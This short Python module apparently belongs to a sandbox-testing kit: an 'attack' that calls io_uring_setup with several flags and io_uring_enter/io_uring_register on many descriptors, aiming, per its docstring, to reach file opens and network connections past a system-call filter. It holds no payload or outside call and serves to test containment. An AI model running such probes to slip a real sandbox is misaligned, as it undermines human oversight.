"""Have the kernel open files and connect on its behalf through io_uring, past a filter of system calls."""

import ctypes

from kit import Mean, attempt, system_call

EXPECTED = "ok"


def attack():
    parameters = ctypes.create_string_buffer(120)
    for flags in (0, 2, 1 << 6, 1 << 12):
        parameters[8:12] = flags.to_bytes(4, "little")
        attempt(f"setup {flags}", lambda: system_call("io_uring_setup", 8, parameters))
    for descriptor in range(64):
        attempt("enter", lambda d=descriptor: system_call("io_uring_enter", d, 1, 0, 0, 0, 0))
        attempt("register", lambda d=descriptor: system_call("io_uring_register", d, 0, 0, 0))
    attempt("register blindly", lambda: system_call("io_uring_register", -1, 0, 0, 0))


def build(spec):
    return Mean(attack)
